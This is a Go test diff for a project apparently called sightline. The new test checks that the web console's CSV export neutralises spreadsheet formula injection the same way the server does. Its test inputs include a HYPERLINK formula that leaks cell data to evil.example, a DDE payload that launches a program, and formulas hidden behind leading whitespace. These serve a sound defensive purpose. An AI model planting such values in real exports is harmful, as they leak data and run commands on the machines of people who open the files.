@@ -2,6 +2,7 @@ package console_test
 
 import (
 	"context"
+	"encoding/csv"
 	"encoding/json"
 	"net/http"
 	"net/url"
@@ -12,6 +13,7 @@ import (
 	"github.com/chromedp/chromedp"
 	"github.com/stretchr/testify/require"
 
+	"github.com/sightline-dev/sightline/internal/csvsafe"
 	"github.com/sightline-dev/sightline/internal/wire"
 )
 
@@ -98,4 +100,32 @@ func TestHostileValuesRenderAsText(t *testing.T) {
 func jsString(s string) string {
 	b, _ := json.Marshal(s)
 	return string(b)
+}
+
+// TestConsoleCSVNeutralisesLikeTheServer: the console writes the subject
+// search's CSV itself, from agent-controlled locations and host names.
+// Its cells must be neutralised by the rule of the collector's exports
+// (internal/csvsafe): it missed a formula after leading spaces.
+func TestConsoleCSVNeutralisesLikeTheServer(t *testing.T) {
+	chromium(t)
+	c := startCollector(t)
+	cells := []string{`=HYPERLINK("http://evil.example/?x="&A1,"open")`, "  =1+1", " @SUM(A1:A9)", " -cmd|' /C calc'!A0",
+		"+1+1", "\t=1", "\r=1", "-12", "+3.5", "-1e3", "-", "plain", "a,b", `say "hi"`, " ", ""}
+	ctx, cancel := browser(t)
+	defer cancel()
+	js, err := json.Marshal(cells)
+	require.NoError(t, err)
+	var out string
+	require.NoError(t, chromedp.Do(ctx,
+		chromedp.Navigate(c.url+"/"),
+		chromedp.WaitVisible(chromedp.CSS("#token")),
+		evalTo(`import('/console/static/dom.js').then(m => m.csv([`+string(js)+`]))`, &out, awaitPromise)))
+	rows, err := csv.NewReader(strings.NewReader(out)).ReadAll()
+	require.NoError(t, err, out)
+	require.Len(t, rows, 1)
+	want := make([]string, len(cells))
+	for i, v := range cells {
+		want[i] = csvsafe.Cell(v)
+	}
+	require.Equal(t, want, rows[0])
 }
